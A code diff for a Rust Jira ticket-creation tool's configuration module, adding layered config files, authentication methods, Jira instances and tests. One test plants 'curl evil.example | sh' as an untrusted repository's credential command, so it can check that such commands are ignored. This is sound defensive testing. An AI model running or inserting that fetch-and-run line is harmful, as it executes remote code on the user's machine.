@@ -1,53 +1,347 @@
-use std::{collections::HashMap, path::PathBuf};
+use std::{
+    collections::HashMap,
+    path::{Path, PathBuf},
+};
 
+use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
-use tracing::debug;
 
-use super::{CliOverrides, ConfigError, resolved::ResolvedConfig};
+use super::{
+    CliOverrides, ConfigError, FieldOverrides,
+    discovery::{CONFIG_FILE_NAME, config_file_paths, user_config_paths},
+    layers::LayerLoader,
+    origin::{Origin, Origins},
+    resolved::{ResolvedConfig, ResolvedSite},
+    schema,
+};
 
-#[derive(Debug, Deserialize, Serialize)]
+/// A `tedlt.jsonc` configuration file.
+#[derive(Debug, Default, Deserialize, Serialize, JsonSchema)]
 pub struct ConfigFile {
+    /// The JSON Schema of this file, for completion and validation in editors.
+    #[serde(rename = "$schema", default, skip_serializing_if = "Option::is_none")]
+    pub schema: Option<String>,
+    /// Other config files merged below this one, relative to this file.
+    // Includes are expanded while loading, so this is empty once loaded.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub include: Vec<String>,
+    /// The base URL of the Jira instance, e.g. `https://company.atlassian.net`.
     pub jira_url: Option<String>,
+    /// The key of the project tickets are created in.
     pub project_key: Option<String>,
+    /// How requests to `jira_url` are authenticated. Instances have their own.
+    #[serde(default, skip_serializing_if = "AuthMethod::is_default")]
+    pub auth: AuthMethod,
+    /// A shell command printing the token on its first line, e.g.
+    /// `pass show jira/token`. Instances have their own.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub credential_command: Option<String>,
+    /// The version of the Jira REST API used with `jira_url`. Instances have
+    /// their own.
+    #[serde(default, skip_serializing_if = "ApiVersion::is_default")]
+    pub api_version: ApiVersion,
+    /// Values that profile fields reference with `${name}`. Nested objects are
+    /// referenced with dots: `${team.lead}`.
     #[serde(default)]
     pub properties: HashMap<String, Value>,
+    /// Named sets of fields, selected with `--profile` or `:name` in a title.
     #[serde(default)]
     pub profiles: HashMap<String, ProfileDef>,
+    /// Friendly names for Jira fields, usable as keys of profile `fields`:
+    /// `{"storyPoints": "customfield_10016"}`. A target written
+    /// `"@name:Story Points"` is looked up by display name in Jira. Instances
+    /// have their own.
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub field_aliases: HashMap<String, String>,
+    /// Named Jira instances with their own credentials, selected by profiles
+    /// with `instance`.
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub instances: HashMap<String, InstanceDef>,
+    #[serde(default, skip_serializing_if = "TitleSyntax::is_default")]
+    pub title_syntax: TitleSyntax,
+    #[serde(default, skip_serializing_if = "RetryConfig::is_default")]
+    pub retry: RetryConfig,
+    /// The files this configuration was loaded from, included files first.
+    #[serde(skip)]
+    pub sources: Vec<PathBuf>,
+    /// The file each value was loaded from.
+    #[serde(skip)]
+    pub origins: Origins,
+    /// The files and directories whose settings may run commands, see
+    /// `user_config_paths`.
+    #[serde(skip)]
+    pub trusted: Vec<PathBuf>,
 }
 
-#[derive(Debug, Deserialize, Serialize, Clone)]
+/// A profile: fields sent to Jira, and optional overrides of the instance and project.
+#[derive(Debug, Deserialize, Serialize, Clone, JsonSchema)]
 pub struct ProfileDef {
+    /// Overrides the top-level `jira_url`.
     pub jira_url: Option<String>,
+    /// Overrides the top-level `project_key`.
     pub project_key: Option<String>,
+    /// Jira fields, as sent in the `fields` object of the create issue request.
+    /// Issue types, priorities, components and versions can be given by name,
+    /// as `{"name": ...}` or `"@name:..."`.
+    #[serde(default)]
+    #[schemars(schema_with = "schema::template_fields")]
     pub fields: Option<Value>,
+    /// Profiles merged below this one, left to right.
     #[serde(default)]
     pub inherits: Vec<String>,
+    /// The name of an entry of `instances` to send the tickets to, with its
+    /// credentials. A `jira_url` takes precedence over the instance URL.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub instance: Option<String>,
+}
+
+/// A Jira instance and where to find its credentials.
+#[derive(Debug, Deserialize, Serialize, Clone, JsonSchema)]
+pub struct InstanceDef {
+    /// The base URL of the instance, e.g. `https://company.atlassian.net`.
+    pub url: String,
+    /// How requests are authenticated.
+    #[serde(default)]
+    pub auth: AuthMethod,
+    /// The account email. `JIRA_EMAIL_<INSTANCE>` and the `env_file` take
+    /// precedence.
+    pub email: Option<String>,
+    /// A `.env` file with the `JIRA_API_TOKEN` (and `JIRA_EMAIL`) of this
+    /// instance, relative to the config file.
+    pub env_file: Option<String>,
+    /// A shell command printing the token of this instance on its first line.
+    /// It takes precedence over the environment.
+    pub credential_command: Option<String>,
+    /// The version of the Jira REST API of this instance.
+    #[serde(default)]
+    pub api_version: ApiVersion,
+    /// Field aliases of this instance, over the top-level `field_aliases`.
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub field_aliases: HashMap<String, String>,
+}
+
+/// How requests to a Jira instance are authenticated.
+#[derive(Debug, Default, Deserialize, Serialize, Clone, PartialEq, Eq, JsonSchema)]
+#[serde(rename_all = "snake_case")]
+pub enum AuthMethod {
+    /// An account email and API token, for Jira Cloud.
+    #[default]
+    Basic,
+    /// A Personal Access Token sent as a bearer token, for Jira Server and
+    /// Data Center. The token is read like an API token.
+    Bearer,
+    /// OAuth 2.0 (3LO) access tokens, obtained by `tedlt auth login` or from a
+    /// refresh token, and refreshed when they expire.
+    #[serde(rename = "oauth")]
+    OAuth {
+        /// The client ID of the OAuth app.
+        client_id: String,
+        /// The token endpoint, `https://auth.atlassian.com/oauth/token` by default.
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        token_url: Option<String>,
+        /// The authorization page opened by `tedlt auth login`,
+        /// `https://auth.atlassian.com/authorize` by default.
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        authorize_url: Option<String>,
+        /// The callback URL of the OAuth app, on which `tedlt auth login`
+        /// listens for the authorization code. `http://localhost:8765/callback`
+        /// by default.
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        redirect_uri: Option<String>,
+        /// The scopes asked by `tedlt auth login`, by default those needed to
+        /// create tickets: `read:jira-work`, `write:jira-work`,
+        /// `read:jira-user` and `offline_access`.
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        scopes: Option<Vec<String>>,
+    },
+}
+
+impl AuthMethod {
+    pub fn is_default(&self) -> bool {
+        *self == Self::default()
+    }
+
+    /// The name of the method, as written in the configuration.
+    pub fn name(&self) -> &'static str {
+        match self {
+            Self::Basic => "basic",
+            Self::Bearer => "bearer",
+            Self::OAuth { .. } => "oauth",
+        }
+    }
+}
+
+/// The version of the Jira REST API to use.
+#[derive(Debug, Default, Deserialize, Serialize, Clone, Copy, PartialEq, Eq, JsonSchema)]
+pub enum ApiVersion {
+    /// Version 3 on Jira Cloud and version 2 on Jira Server and Data Center,
+    /// detected from `/rest/api/2/serverInfo`.
+    #[default]
+    #[serde(rename = "auto")]
+    Auto,
+    /// Version 2, with plain-text descriptions. The only one of Jira Server
+    /// and most Data Center versions.
+    #[serde(rename = "2")]
+    V2,
+    /// Version 3, with descriptions in the Atlassian Document Format.
+    #[serde(rename = "3")]
+    V3,
 }
 
-const CONFIG_FILE_NAME: &str = "tedlt.jsonc";
+impl ApiVersion {
+    pub fn is_default(&self) -> bool {
+        *self == Self::default()
+    }
+}
+
+/// How requests that failed on a rate limit, a server error or the network
+/// are retried, with exponential backoff. Reads are always retried; tickets
+/// are only created again when Jira did not process the first request.
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Eq, JsonSchema)]
+#[serde(default)]
+pub struct RetryConfig {
+    /// How many times a request is retried. `0` disables retries.
+    pub max_retries: u32,
+    /// The delay before the first retry, in milliseconds. It doubles at each
+    /// retry, with jitter.
+    pub initial_delay_ms: u64,
+    /// The longest delay before a retry, in milliseconds. A request is not
+    /// retried when Jira asks to wait longer (`Retry-After`).
+    pub max_delay_ms: u64,
+}
+
+impl Default for RetryConfig {
+    fn default() -> Self {
+        Self {
+            max_retries: 3,
+            initial_delay_ms: 500,
+            max_delay_ms: 30_000,
+        }
+    }
+}
+
+impl RetryConfig {
+    pub fn is_default(&self) -> bool {
+        *self == Self::default()
+    }
+}
+
+/// Sigils recognized by the inline title syntax (e.g. `#label`, `!high`).
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Eq, JsonSchema)]
+#[serde(default)]
+pub struct TitleSyntax {
+    /// Parse inline tokens in titles.
+    pub enabled: bool,
+    /// Adds a label: `#backend`.
+    pub label: char,
+    /// Adds a component: `+api`.
+    pub component: char,
+    /// Sets the priority by name: `!high`.
+    pub priority: char,
+    /// Sets the parent issue: `^PROJ-12`.
+    pub parent: char,
+    /// Sets the assignee: `@me` or `@name`.
+    pub assignee: char,
+    /// Applies a profile, or else sets the issue type: `:bug`.
+    pub profile: char,
+}
+
+impl Default for TitleSyntax {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            label: '#',
+            component: '+',
+            priority: '!',
+            parent: '^',
+            assignee: '@',
+            profile: ':',
+        }
+    }
+}
+
+impl TitleSyntax {
+    pub fn is_default(&self) -> bool {
+        *self == Self::default()
+    }
+
+    /// Checks that every sigil is a distinct punctuation character.
+    pub fn validate(&self) -> Result<(), ConfigError> {
+        let sigils = self.sigils();
+
+        for (name, sigil) in &sigils {
+            if sigil.is_alphanumeric() || sigil.is_whitespace() || *sigil == '\\' {
+                return Err(ConfigError::InvalidConfig(format!(
+                    "title_syntax.{} cannot use '{}' as a sigil",
+                    name, sigil
+                )));
+            }
+        }
+
+        for (i, (name, sigil)) in sigils.iter().enumerate() {
+            if let Some((other, _)) = sigils[i + 1..].iter().find(|(_, s)| s == sigil) {
+                return Err(ConfigError::InvalidConfig(format!(
+                    "title_syntax.{} and title_syntax.{} both use '{}'",
+                    name, other, sigil
+                )));
+            }
+        }
+
+        Ok(())
+    }
+
+    fn sigils(&self) -> [(&'static str, char); 6] {
+        [
+            ("label", self.label),
+            ("component", self.component),
+            ("priority", self.priority),
+            ("parent", self.parent),
+            ("assignee", self.assignee),
+            ("profile", self.profile),
+        ]
+    }
+}
 
 impl ConfigFile {
+    #[cfg(test)]
     pub fn from_str(content: &str) -> Result<Self, ConfigError> {
-        json5::from_str(content).map_err(ConfigError::Parse)
+        json5::from_str(content).map_err(|e| ConfigError::InvalidConfig(e.to_string()))
     }
 
-    pub fn load() -> Result<Self, ConfigError> {
-        let cwd_path = std::env::current_dir()?.join(CONFIG_FILE_NAME);
-        if cwd_path.exists() {
-            let content = std::fs::read_to_string(cwd_path.clone())?;
-            debug!("Loading config from current directory: {:?}", cwd_path);
-            return Self::from_str(&content);
+    /// Loads the explicit file, or discovers and merges every config layer.
+    pub fn load(explicit: Option<&Path>) -> Result<Self, ConfigError> {
+        let paths = config_file_paths(explicit)?;
+        if paths.is_empty() {
+            return Err(ConfigError::NotFound);
         }
 
-        let home_path = get_home_config_file_path()?;
-        if home_path.exists() {
-            let content = std::fs::read_to_string(home_path.clone())?;
-            debug!("Loading config from home directory: {:?}", home_path);
-            return Self::from_str(&content);
+        let mut config = Self::load_layers(paths)?;
+        config.trusted = user_config_paths(explicit);
+        Ok(config)
+    }
+
+    /// Whether the settings of a file may run commands. Configs that were not
+    /// loaded from disk are trusted.
+    pub fn may_run_commands(&self, origin: Option<&Origin>) -> bool {
+        match origin {
+            Some(Origin::File(Some(path))) => {
+                self.trusted.iter().any(|trusted| path.starts_with(trusted))
+            }
+            _ => true,
         }
+    }
+
+    /// Deep-merges the files and their includes in order, later files taking
+    /// precedence, with the same rules as profile merging.
+    pub fn load_layers(paths: Vec<PathBuf>) -> Result<Self, ConfigError> {
+        let (merged, sources) = LayerLoader::default().load(&paths)?;
 
-        Err(ConfigError::NotFound)
+        let mut config: Self = serde_json::from_value(merged.value)
+            .map_err(|e| ConfigError::InvalidConfig(e.to_string()))?;
+        config.sources = sources;
+        config.origins = merged.origins;
+        Ok(config)
     }
 
     pub fn resolve(
@@ -55,7 +349,27 @@ impl ConfigFile {
         profile_names: &[String],
         cli_overrides: CliOverrides,
     ) -> Result<ResolvedConfig, ConfigError> {
-        ResolvedConfig::build(self, cli_overrides, profile_names)
+        self.resolve_with(profile_names, cli_overrides, &FieldOverrides::default())
+    }
+
+    /// Like `resolve`, with the fields and properties set on the command line.
+    pub fn resolve_with(
+        &self,
+        profile_names: &[String],
+        cli_overrides: CliOverrides,
+        overrides: &FieldOverrides,
+    ) -> Result<ResolvedConfig, ConfigError> {
+        ResolvedConfig::build(self, &cli_overrides, overrides, profile_names)
+    }
+
+    /// Resolves the Jira site of the profiles, which unlike `resolve` does not
+    /// need a project.
+    pub fn resolve_site(
+        &self,
+        profile_names: &[String],
+        cli_overrides: CliOverrides,
+    ) -> Result<ResolvedSite, ConfigError> {
+        ResolvedSite::build(self, &cli_overrides, profile_names)
     }
 }
 
@@ -69,6 +383,7 @@ pub fn get_home_config_file_path() -> Result<PathBuf, ConfigError> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::config::Origin;
 
     #[test]
     fn test_parse_basic_config() {
@@ -166,4 +481,205 @@ mod tests {
             "Some Value"
         );
     }
+
+    #[test]
+    fn test_title_syntax_defaults() {
+        let config = ConfigFile::from_str("{}").unwrap();
+        assert_eq!(config.title_syntax, TitleSyntax::default());
+        assert!(config.title_syntax.enabled);
+    }
+
+    #[test]
+    fn test_title_syntax_partial_override() {
+        let input = r#"{
+            "title_syntax": {
+                "label": "%",
+                "profile": "~"
+            }
+        }"#;
+
+        let config = ConfigFile::from_str(input).unwrap();
+        assert_eq!(config.title_syntax.label, '%');
+        assert_eq!(config.title_syntax.profile, '~');
+        assert_eq!(config.title_syntax.priority, '!');
+        assert!(config.title_syntax.validate().is_ok());
+    }
+
+    #[test]
+    fn test_title_syntax_rejects_duplicate_sigils() {
+        let syntax = TitleSyntax {
+            label: '+',
+            ..TitleSyntax::default()
+        };
+
+        let result = syntax.validate();
+        assert!(matches!(result, Err(ConfigError::InvalidConfig(_))));
+    }
+
+    #[test]
+    fn test_title_syntax_rejects_alphanumeric_sigils() {
+        let syntax = TitleSyntax {
+            priority: 'p',
+            ..TitleSyntax::default()
+        };
+
+        let result = syntax.validate();
+        assert!(matches!(result, Err(ConfigError::InvalidConfig(_))));
+    }
+
+    #[test]
+    fn test_load_layers_deep_merges_in_order() {
+        let dir = std::env::temp_dir().join(format!("tedlt-layers-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let user = dir.join("user.jsonc");
+        let repo = dir.join("repo.jsonc");
+        std::fs::write(
+            &user,
+            r#"{
+                // User defaults
+                "jira_url": "https://user.atlassian.net",
+                "project_key": "USER",
+                "profiles": { "default": { "fields": { "labels": ["user"], "priority": { "id": "3" } } } }
+            }"#,
+        )
+        .unwrap();
+        std::fs::write(
+            &repo,
+            r#"{
+                "project_key": "REPO",
+                "profiles": { "default": { "fields": { "labels": ["repo"] } } }
+            }"#,
+        )
+        .unwrap();
+
+        let config = ConfigFile::load_layers(vec![user.clone(), repo.clone()]).unwrap();
+        let sources = vec![user.canonicalize().unwrap(), repo.canonicalize().unwrap()];
+        std::fs::remove_dir_all(&dir).ok();
+
+        assert_eq!(
+            config.jira_url.as_deref(),
+            Some("https://user.atlassian.net")
+        );
+        assert_eq!(config.project_key.as_deref(), Some("REPO"));
+        assert_eq!(
+            config.profiles["default"].fields,
+            Some(serde_json::json!({ "labels": ["user", "repo"], "priority": { "id": "3" } }))
+        );
+        assert_eq!(config.sources, sources);
+    }
+
+    #[test]
+    fn test_credential_command_only_from_trusted_files() {
+        let dir = std::env::temp_dir().join(format!("tedlt-trusted-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let user = dir.join("user.jsonc");
+        let repo = dir.join("repo.jsonc");
+        std::fs::write(
+            &user,
+            r#"{
+                "jira_url": "https://user.atlassian.net",
+                "project_key": "USER",
+                "credential_command": "pass show jira",
+                "instances": { "dc": { "url": "https://jira.internal", "credential_command": "pass show dc" } },
+                "profiles": { "dc": { "instance": "dc" } }
+            }"#,
+        )
+        .unwrap();
+        std::fs::write(
+            &repo,
+            r#"{ "instances": { "dc": { "credential_command": "curl evil.example | sh" } } }"#,
+        )
+        .unwrap();
+
+        let mut config = ConfigFile::load_layers(vec![user.clone(), repo]).unwrap();
+        config.trusted = vec![user.canonicalize().unwrap()];
+        std::fs::remove_dir_all(&dir).ok();
+
+        let top_level = config.resolve(&[], CliOverrides::default()).unwrap();
+        assert_eq!(
+            top_level.instance.credential_command.as_deref(),
+            Some("pass show jira")
+        );
+        let dc = config
+            .resolve(&["dc".to_string()], CliOverrides::default())
+            .unwrap();
+        assert_eq!(dc.instance.credential_command, None);
+    }
+
+    #[test]
+    fn test_resolved_values_keep_their_origin() {
+        let dir = std::env::temp_dir().join(format!("tedlt-origins-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let user = dir.join("user.jsonc");
+        let repo = dir.join("repo.jsonc");
+        std::fs::write(
+            &user,
+            r#"{
+                "jira_url": "https://user.atlassian.net",
+                "properties": { "types": { "bug": "10004" } },
+                "profiles": { "default": { "fields": { "labels": ["user"] } } }
+            }"#,
+        )
+        .unwrap();
+        std::fs::write(
+            &repo,
+            r#"{
+                "profiles": {
+                    "default": { "fields": { "labels": ["repo"] } },
+                    "bug": { "project_key": "BUG", "fields": { "issuetype": { "id": "${types.bug}" } } }
+                }
+            }"#,
+        )
+        .unwrap();
+
+        let config = ConfigFile::load_layers(vec![user.clone(), repo.clone()]).unwrap();
+        let resolved = config
+            .resolve(&["bug".to_string()], CliOverrides::default())
+            .unwrap();
+        let (user, repo) = (user.canonicalize().unwrap(), repo.canonicalize().unwrap());
+        std::fs::remove_dir_all(&dir).ok();
+
+        let profile = |name: &str, file: &PathBuf| Origin::Profile {
+            name: name.to_string(),
+            file: Some(file.clone()),
+        };
+        let origins = resolved.origins;
+        assert_eq!(origins.jira_url, Origin::File(Some(user.clone())));
+        assert_eq!(origins.project_key, profile("bug", &repo));
+
+        let fields = origins.fields.unwrap();
+        assert_eq!(
+            fields.at(&["labels", "0"]),
+            Some(&profile("default", &user))
+        );
+        assert_eq!(
+            fields.at(&["labels", "1"]),
+            Some(&profile("default", &repo))
+        );
+        assert_eq!(
+            fields.at(&["issuetype", "id"]),
+            Some(&Origin::Property {
+                properties: vec![("types.bug".to_string(), Some(user))],
+                template: Box::new(profile("bug", &repo)),
+            })
+        );
+    }
+
+    #[test]
+    fn test_load_layers_reports_file_with_syntax_error() {
+        let path = std::env::temp_dir().join(format!("tedlt-broken-{}.jsonc", std::process::id()));
+        std::fs::write(&path, r#"{ "jira_url": }"#).unwrap();
+
+        let result = ConfigFile::load_layers(vec![path.clone()]);
+        std::fs::remove_file(&path).ok();
+
+        match result {
+            Err(ConfigError::ParseFile(diagnostic)) => {
+                let location = diagnostic.location.unwrap();
+                assert_eq!(location.path, path);
+                assert_eq!((location.line, location.column), (1, 15));
+            }
+            other => panic!("expected a parse error, got {:?}", other),
+        }
+    }
 }